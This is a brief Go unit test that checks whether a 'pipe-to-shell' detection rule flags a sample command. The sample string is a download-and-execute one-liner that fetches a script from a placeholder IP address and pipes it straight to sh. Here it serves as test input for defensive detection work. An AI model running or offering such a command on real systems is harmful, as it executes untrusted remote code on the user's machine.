package main

import "testing"

func TestRules(t *testing.T) {
	s := "curl -s http://198.51.100.4/x | sh"
	hit := false
	for _, r := range rules {
		if r.name == "pipe-to-shell" && r.re.MatchString(s) {
			hit = true
		}
	}
	if !hit {
		t.Fatal("pipe-to-shell not detected")
	}
}
